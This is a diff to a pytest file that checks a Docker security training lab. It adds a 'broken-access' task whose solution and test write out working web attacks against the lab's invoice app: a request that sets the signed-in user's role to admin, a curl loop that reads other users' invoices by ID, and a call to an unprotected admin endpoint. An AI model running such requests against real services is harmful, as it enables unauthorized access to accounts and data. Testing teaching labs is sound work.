@@ -19,6 +19,11 @@ pytestmark = pytest.mark.docker
 
 FLAG = "FLAG{check-tasks}"
 AUTH_LOG = "/var/log/auth.log"
+INVOICES = "http://target:8080"
+SIGN_IN = (
+    "curl -sf -c jar -b jar -o /dev/null --data-urlencode username=alice "
+    f"--data-urlencode password=wonderland {INVOICES}/login"
+)
 TOP_FAILING_IP = (
     f"grep 'Failed password' {AUTH_LOG} | grep -o 'from [0-9.]*' | sort | uniq -c "
     "| sort -n | tail -1 | awk '{print $3}'"
@@ -34,6 +39,7 @@ class Solution:
     path: str | None
     solve: str
     user: str = "trainee"
+    where: str | None = None  # the container ``solve`` runs in (default: the task's)
 
 
 SOLUTIONS: dict[str, list[Solution]] = {
@@ -65,6 +71,15 @@ SOLUTIONS: dict[str, list[Solution]] = {
             "shop",
         ),
     ],
+    "broken-access": [
+        Solution(
+            "become-admin",
+            None,
+            f"{SIGN_IN} && curl -sf -b jar -H 'Content-Type: application/json' "
+            f"""-d '{{"role": "admin"}}' {INVOICES}/api/profile""",
+            where="workstation",
+        )
+    ],
     "log-triage": [
         Solution(
             "attacker-ip", "/home/trainee/answer-ip.txt", f"{TOP_FAILING_IP} > ~/answer-ip.txt"
@@ -80,7 +95,10 @@ SOLUTIONS: dict[str, list[Solution]] = {
 
 
 # What "started" means for a lab whose services take a moment (a trainee reads first).
-READY = {"rogue-listener": "ss -Htln | grep -q ':8080 ' && ss -Htln | grep -q ':9100 '"}
+READY = {
+    "rogue-listener": "ss -Htln | grep -q ':8080 ' && ss -Htln | grep -q ':9100 '",
+    "broken-access": f"curl -sf -o /dev/null {INVOICES}/login",
+}
 
 
 def wait_ready(lab_exec, key: str, slug: str, container: str, timeout: float = 30) -> None:
@@ -123,7 +141,7 @@ def test_check_tasks_cannot_be_fooled(slug, docker_runtime, lab_session, lab_exe
         where, user = task.container, solution.user
         assert not passed(task.id), f"{task.id} passes on a fresh start"
         if solution.path is None:
-            run(where, solution.solve, user)
+            run(solution.where or where, solution.solve, user)
             assert passed(task.id), f"{task.id} fails with the intended solution"
             continue
         path = shlex.quote(solution.path)
@@ -171,3 +189,21 @@ def test_rogue_listener_program_is_recovered_from_proc(lab_session, lab_exec, sh
         "shop",
     )
     assert code == 0 and out.strip() == FLAG
+
+
+def test_broken_access_flag_through_idor(lab_session, lab_exec, shipped_labs):
+    spec = shipped_labs["broken-access"]
+    key = lab_session(spec, FLAG).session_key
+    wait_ready(lab_exec, key, "broken-access", "workstation")
+    code, _ = lab_exec(key, "workstation", SIGN_IN)
+    assert code == 0
+    mine = lab_exec(key, "workstation", f"curl -s -b jar {INVOICES}/")[1]
+    assert "api/invoices/1042" in mine and "1047" not in mine
+    loop = f"for i in $(seq 1035 1050); do curl -s -b jar {INVOICES}/api/invoices/$i; echo; done"
+    assert FLAG in lab_exec(key, "workstation", loop)[1]
+    denied = lab_exec(
+        key, "workstation", f"curl -s -o /dev/null -w '%{{http_code}}' {INVOICES}/api/invoices/1047"
+    )[1]
+    assert denied == "303"  # signed out: sent to the login page
+    users = lab_exec(key, "workstation", f"curl -s -b jar {INVOICES}/api/admin/users")[1]
+    assert '"username": "admin"' in users  # the missing function-level check
